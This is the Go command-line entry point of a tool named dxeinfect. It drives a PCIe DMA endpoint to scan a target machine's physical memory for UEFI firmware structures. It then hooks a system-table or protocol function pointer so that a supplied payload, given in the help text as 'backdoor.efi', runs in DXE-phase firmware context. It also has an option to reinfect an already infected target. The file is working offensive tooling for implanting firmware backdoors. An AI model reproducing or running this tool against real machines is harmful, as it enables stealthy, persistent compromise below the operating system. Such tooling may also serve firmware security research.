// Command dxeinfect plants a DXE-stage payload into a target machine's
// RAM over a PCIe DMA link and hooks a UEFI function pointer so the
// payload runs once in firmware context.
package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"

	"github.com/google/uuid"
	"github.com/spf13/cobra"

	"github.com/zboralski/dxeinfect/internal/config"
	"github.com/zboralski/dxeinfect/internal/guiddb"
	"github.com/zboralski/dxeinfect/internal/hook"
	glog "github.com/zboralski/dxeinfect/internal/log"
	"github.com/zboralski/dxeinfect/internal/loadedimage"
	"github.com/zboralski/dxeinfect/internal/payload"
	"github.com/zboralski/dxeinfect/internal/peimage"
	"github.com/zboralski/dxeinfect/internal/protocoldb"
	"github.com/zboralski/dxeinfect/internal/scanner"
	"github.com/zboralski/dxeinfect/internal/supervisor"
	"github.com/zboralski/dxeinfect/internal/transport"
	"github.com/zboralski/dxeinfect/internal/ui/colorize"
)

var (
	device        string
	guidsPath     string
	scanFromFlag  string
	scanToFlag    string
	verbose       bool
	allowReinfect bool

	payloadPath string
	methodFlag  string
	hookGUID    string
	hookSlot    int
)

func main() {
	rootCmd := &cobra.Command{
		Use:   "dxeinfect",
		Short: "Plant a DXE-stage payload into a running UEFI firmware over PCIe DMA",
		Long: `dxeinfect drives a PCIe transaction-layer endpoint to discover UEFI
firmware structures in a target machine's physical RAM, then hooks a
function pointer so a payload image runs once in DXE-phase firmware
context before handing control back to the original handler.

Examples:
  dxeinfect install --method protocol --payload backdoor.efi
  dxeinfect list --guids guids.json
  dxeinfect info backdoor.efi`,
		DisableFlagsInUseLine: true,
		SilenceUsage:          true,
	}
	rootCmd.PersistentFlags().StringVar(&device, "device", config.DefaultDevicePath, "PCIe BAR character device")
	rootCmd.PersistentFlags().BoolVarP(&verbose, "verbose", "v", false, "verbose debug output")
	rootCmd.PersistentFlags().StringVar(&scanFromFlag, "from", "", "override PROT_SCAN_FROM (hex)")
	rootCmd.PersistentFlags().StringVar(&scanToFlag, "to", "", "override PROT_SCAN_TO (hex)")

	installCmd := &cobra.Command{
		Use:   "install",
		Short: "Discover firmware structures and install the hook",
		RunE:  runInstall,
	}
	installCmd.Flags().StringVar(&methodFlag, "method", "protocol", "hook method: system-table|protocol")
	installCmd.Flags().StringVar(&payloadPath, "payload", "", "path to the DXE-stage payload PE (required)")
	installCmd.Flags().StringVar(&hookGUID, "guid", hook.DefaultHookGUID, "protocol method target GUID")
	installCmd.Flags().IntVar(&hookSlot, "slot", hook.DefaultHookSlot, "protocol method target interface slot")
	installCmd.Flags().BoolVar(&allowReinfect, "allow-reinfect", false, "proceed even if target is already infected")
	_ = installCmd.MarkFlagRequired("payload")
	rootCmd.AddCommand(installCmd)

	listCmd := &cobra.Command{
		Use:   "list",
		Short: "Enumerate registered UEFI protocols and loaded images (read-only)",
		RunE:  runList,
	}
	listCmd.Flags().StringVar(&guidsPath, "guids", config.DefaultGUIDsPath, "GUID name database (JSON)")
	rootCmd.AddCommand(listCmd)

	infoCmd := &cobra.Command{
		Use:   "info <payload.efi>",
		Short: "Parse a local payload PE and print its layout",
		Args:  cobra.ExactArgs(1),
		RunE:  runInfo,
	}
	rootCmd.AddCommand(infoCmd)

	if err := rootCmd.Execute(); err != nil {
		fmt.Fprintln(os.Stderr, colorize.Error(err.Error()))
		os.Exit(1)
	}
}

// buildConfig assembles a config.Config from the flags bound above,
// applying --from/--to overrides and validating the scan-bound
// invariant spec.md §6 calls for.
func buildConfig() (config.Config, error) {
	cfg := config.New()
	cfg.Device = device
	cfg.Verbose = verbose
	cfg.AllowReinfect = allowReinfect

	if guidsPath != "" {
		cfg.GUIDsPath = guidsPath
	}
	if scanFromFlag != "" {
		v, err := strconv.ParseUint(strings.TrimPrefix(strings.ToLower(scanFromFlag), "0x"), 16, 64)
		if err != nil {
			return config.Config{}, fmt.Errorf("--from: %w", err)
		}
		cfg.ProtScanFrom = v
	}
	if scanToFlag != "" {
		v, err := strconv.ParseUint(strings.TrimPrefix(strings.ToLower(scanToFlag), "0x"), 16, 64)
		if err != nil {
			return config.Config{}, fmt.Errorf("--to: %w", err)
		}
		cfg.ProtScanTo = v
	}
	if err := cfg.Validate(); err != nil {
		return config.Config{}, err
	}
	return cfg, nil
}

// interruptibleContext returns a context canceled on SIGINT, so the
// supervisor's retry loop and the scanner's bounded sweeps can unwind
// cleanly on Ctrl-C instead of leaving the endpoint half-opened.
func interruptibleContext() (context.Context, context.CancelFunc) {
	return signal.NotifyContext(context.Background(), os.Interrupt)
}

func openTransport(ctx context.Context, cfg config.Config, logger *glog.Logger, allowReinfect bool) (transport.Transport, error) {
	opener := func() (transport.Transport, error) {
		return transport.Open(cfg.Device)
	}
	return supervisor.WaitForEndpoint(ctx, opener, logger, allowReinfect)
}

func runInstall(cmd *cobra.Command, args []string) error {
	cfg, err := buildConfig()
	if err != nil {
		return err
	}
	cfg.PayloadPath = payloadPath

	switch methodFlag {
	case "system-table":
		cfg.Method = hook.SystemTable
	case "protocol":
		cfg.Method = hook.Protocol
	default:
		return fmt.Errorf("--method: unknown method %q (want system-table|protocol)", methodFlag)
	}

	g, err := uuid.Parse(hookGUID)
	if err != nil {
		return fmt.Errorf("--guid: %w", err)
	}
	cfg.HookGUID = g
	cfg.HookSlot = hookSlot

	payloadData, err := os.ReadFile(cfg.PayloadPath)
	if err != nil {
		return fmt.Errorf("read payload: %w", err)
	}

	glog.Init(cfg.Verbose)
	logger := glog.L

	ctx, cancel := interruptibleContext()
	defer cancel()

	t, err := openTransport(ctx, cfg, logger, cfg.AllowReinfect)
	if err != nil {
		return fmt.Errorf("wait for endpoint: %w", err)
	}
	defer t.Close()

	var result hook.Result
	switch cfg.Method {
	case hook.SystemTable:
		result, err = installSystemTable(ctx, t, logger, cfg, payloadData)
	case hook.Protocol:
		result, err = installProtocol(ctx, t, logger, cfg, payloadData)
	}
	if err != nil {
		return err
	}

	fmt.Printf("%s entry = %s  patch_ptr = %s  patch_val = %s\n",
		colorize.Header("installed"),
		colorize.Address(result.EntryAddr),
		colorize.Address(result.PatchPtr),
		colorize.Address(result.PatchVal))
	if result.StubWritten {
		fmt.Printf("%s trampoline at %s\n", colorize.Detail("+"), colorize.Address(result.StubAddr))
	}
	return nil
}

func installSystemTable(ctx context.Context, t transport.Transport, logger *glog.Logger, cfg config.Config, payloadData []byte) (hook.Result, error) {
	systemTable, err := scanner.FindSystemTable(ctx, t, logger, cfg.SysScanFrom)
	if err != nil {
		return hook.Result{}, fmt.Errorf("find system table: %w", err)
	}

	bootServices, err := t.ReadU64(systemTable + hook.EFISystemTableBootServices)
	if err != nil {
		return hook.Result{}, fmt.Errorf("read boot services: %w", err)
	}
	locateProtocol, err := t.ReadU64(bootServices + hook.EFIBootServicesLocateProtocol)
	if err != nil {
		return hook.Result{}, fmt.Errorf("read locate protocol: %w", err)
	}

	return hook.InstallSystemTable(t, logger, payloadData, hook.SystemTableParams{
		SystemTable:    systemTable,
		BootServices:   bootServices,
		LocateProtocol: locateProtocol,
	})
}

func installProtocol(ctx context.Context, t transport.Transport, logger *glog.Logger, cfg config.Config, payloadData []byte) (hook.Result, error) {
	protEntry, err := scanner.FindProtocolEntry(ctx, t, logger, cfg.ProtScanFrom, cfg.ProtScanTo)
	if err != nil {
		return hook.Result{}, fmt.Errorf("find protocol entry: %w", err)
	}

	return hook.InstallProtocol(t, logger, payloadData, hook.ProtocolParams{
		ProtocolEntry: protEntry,
		GUID:          cfg.HookGUID,
		Slot:          cfg.HookSlot,
	})
}

func runList(cmd *cobra.Command, args []string) error {
	cfg, err := buildConfig()
	if err != nil {
		return err
	}

	glog.Init(cfg.Verbose)
	logger := glog.L

	names, err := guiddb.Load(cfg.GUIDsPath)
	if err != nil {
		return fmt.Errorf("load guid database: %w", err)
	}

	ctx, cancel := interruptibleContext()
	defer cancel()

	t, err := openTransport(ctx, cfg, logger, true)
	if err != nil {
		return fmt.Errorf("wait for endpoint: %w", err)
	}
	defer t.Close()

	protEntry, err := scanner.FindProtocolEntry(ctx, t, logger, cfg.ProtScanFrom, cfg.ProtScanTo)
	if err != nil {
		return fmt.Errorf("find protocol entry: %w", err)
	}

	fmt.Printf("%s PROTOCOL_ENTRY at %s\n\n", colorize.Header("▶"), colorize.Address(protEntry))
	fmt.Println(colorize.Detail("Registered UEFI protocols and interfaces:"))
	if err := protocoldb.PrintEntries(t, protEntry, names, func(line string) { fmt.Println(line) }); err != nil {
		return fmt.Errorf("enumerate protocols: %w", err)
	}

	images, err := loadedimage.Enumerate(t, protEntry)
	if err != nil {
		return fmt.Errorf("enumerate loaded images: %w", err)
	}
	if len(images) > 0 {
		fmt.Println(colorize.Border("----------------------------------------"))
		fmt.Printf("%s\n", colorize.Detail("Loaded UEFI images:"))
		for _, img := range images {
			label := ""
			if img.HasFileGUID {
				label = img.FileGUID.String()
				if name, ok := names[img.FileGUID]; ok {
					label = name
				}
			}
			fmt.Printf(" * %s: addr = %s, size = %s  %s\n",
				colorize.Address(img.InterfaceAddr),
				colorize.Address(img.Addr),
				colorize.Detail(fmt.Sprintf("0x%08x", img.Size)),
				colorize.GUID(label))
		}
	}

	return nil
}

func runInfo(cmd *cobra.Command, args []string) error {
	data, err := os.ReadFile(args[0])
	if err != nil {
		return fmt.Errorf("read payload: %w", err)
	}

	img, err := peimage.Parse(data)
	if err != nil {
		return fmt.Errorf("parse payload: %w", err)
	}

	fmt.Printf("ImageBase:   %s\n", colorize.Address(img.ImageBase))
	fmt.Printf("SizeOfImage: 0x%x\n", img.SizeOfImage)
	fmt.Printf("EntryRVA:    0x%x\n", img.EntryPointRVA)
	fmt.Printf("Aligned:     %v (FileAlignment=0x%x SectionAlignment=0x%x)\n",
		img.AlignedOK(), img.FileAlignment, img.SectionAlignment)

	fmt.Println("\nSections:")
	for _, s := range img.Sections {
		fmt.Printf("  %-8s VA=0x%08x RawPtr=0x%08x RawSize=0x%08x\n",
			s.Name, s.VirtualAddress, s.PointerToRawData, s.SizeOfRawData)
	}

	conf, err := payload.ReadConf(img, data)
	if err != nil {
		fmt.Printf("\n%s: %v\n", colorize.Detail(".conf"), err)
		return nil
	}
	fmt.Printf("\n.conf: entry_va=0x%x locate_protocol=0x%x system_table=0x%x\n",
		conf.EntryVA, conf.LocateProtocol, conf.SystemTable)
	return nil
}
